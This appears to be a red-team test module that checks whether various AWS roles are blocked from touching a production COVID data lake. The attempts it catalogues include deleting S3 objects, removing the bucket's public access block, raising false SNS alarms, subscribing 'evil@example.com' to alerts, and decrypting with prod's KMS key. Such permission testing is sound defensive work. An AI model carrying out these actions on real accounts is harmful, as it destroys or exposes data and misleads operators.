"""Reading and writing prod's data, and using what it runs."""

from __future__ import annotations

from tests.e2e.red_team.rig import (
    DEPLOY,
    EVIL_ROLE,
    FORMATION,
    OPS,
    PLAN,
    PROD,
    STACK_ROLE,
    Attempt,
    alarm,
    arn,
)
from tests.e2e.role_sessions import role_arn

MACHINE = arn("states", f"stateMachine:{PROD}-ingestion")

DATA = {
    "list prod's lake": Attempt(
        (PLAN, DEPLOY, OPS, STACK_ROLE),
        lambda it: it.aws("s3").list_objects_v2(Bucket=it.world.lake),
    ),
    "read prod's lake": Attempt(
        (DEPLOY, OPS, FORMATION, STACK_ROLE),
        lambda it: it.aws("s3").get_object(Bucket=it.world.lake, Key="clean/uk_covid/x"),
    ),
    "write to prod's lake": Attempt(
        (DEPLOY, OPS, FORMATION, STACK_ROLE),
        lambda it: it.aws("s3").put_object(Bucket=it.world.lake, Key="clean/uk_covid/y", Body=b""),
    ),
    "empty prod's lake": Attempt(
        (DEPLOY, STACK_ROLE),
        lambda it: it.aws("s3").delete_object(Bucket=it.world.lake, Key="clean/uk_covid/y"),
    ),
    "open prod's lake": Attempt(
        (FORMATION, DEPLOY),
        lambda it: it.aws("s3").delete_public_access_block(Bucket=it.world.lake),
    ),
    "query in prod's workgroup": Attempt(
        (OPS, STACK_ROLE),
        lambda it: it.aws("athena").start_query_execution(
            QueryString="SELECT 1", WorkGroup=PROD, QueryExecutionContext={"Database": "covid_lake_prod"}
        ),
    ),
    "read prod's catalog": Attempt(
        (OPS, STACK_ROLE, DEPLOY),
        lambda it: it.aws("glue").get_table(DatabaseName="covid_lake_prod", Name="uk_covid"),
    ),
    "start an execution": Attempt(
        (OPS, STACK_ROLE),
        lambda it: it.aws("stepfunctions").start_execution(
            stateMachineArn=MACHINE, name=f"evil-{len(it.who)}"
        ),
    ),
    "start prod's job": Attempt(
        (OPS, STACK_ROLE),
        lambda it: it.aws("glue").start_job_run(JobName=f"{PROD}-ingest"),
    ),
    "start prod's crawler": Attempt(
        (OPS, STACK_ROLE), lambda it: it.aws("glue").start_crawler(Name=f"{PROD}-crawler")
    ),
    "call prod's function": Attempt(
        (FORMATION, STACK_ROLE),
        lambda it: it.aws("lambda").invoke(FunctionName=f"{PROD}-start-crawler", Payload=b"{}"),
    ),
    "cry wolf on prod's topic": Attempt(
        (DEPLOY, FORMATION, STACK_ROLE),
        lambda it: it.aws("sns").publish(TopicArn=it.world.outputs["TopicArn"], Message="x"),
    ),
    "listen to prod's topic": Attempt(
        (FORMATION, STACK_ROLE),
        lambda it: it.aws("sns").subscribe(
            TopicArn=it.world.outputs["TopicArn"], Protocol="email", Endpoint="evil@example.com"
        ),
    ),
    "have a rule of its own cry wolf on prod's topic": Attempt(
        (FORMATION,),
        lambda it: it.aws("events").put_targets(
            Rule="covid-lake-pr-8-schedule", Targets=[{"Id": "x", "Arn": it.world.outputs["TopicArn"]}]
        ),
    ),
    "have a rule of its own start prod's machine": Attempt(
        (FORMATION,),
        lambda it: it.aws("events").put_targets(
            Rule="covid-lake-pr-8-schedule",
            Targets=[{"Id": "x", "Arn": MACHINE, "RoleArn": role_arn(EVIL_ROLE)}],
        ),
    ),
    "have an alarm of its own cry wolf on prod's topic": Attempt(
        (FORMATION,), lambda it: alarm(it, AlarmActions=[it.world.outputs["TopicArn"]])
    ),
    "have an alarm of its own tell prod's topic that all is well": Attempt(
        (FORMATION,),
        lambda it: alarm(it, OKActions=[it.own_topic, it.world.outputs["TopicArn"]]),
    ),
    "read what was not delivered": Attempt(
        (FORMATION, STACK_ROLE),
        lambda it: it.aws("sqs").receive_message(QueueUrl=it.world.outputs["UndeliveredQueueUrl"]),
    ),
    "read prod's logs": Attempt(
        (OPS, STACK_ROLE),
        lambda it: it.aws("logs").filter_log_events(logGroupName=f"/aws/lambda/{PROD}-start-crawler"),
    ),
    "decrypt with prod's key": Attempt(
        (STACK_ROLE, OPS, FORMATION),
        lambda it: it.aws("kms").decrypt(
            KeyId=it.world.key, CiphertextBlob=it.world.ciphertext, EncryptionContext=it.world.context
        ),
    ),
}
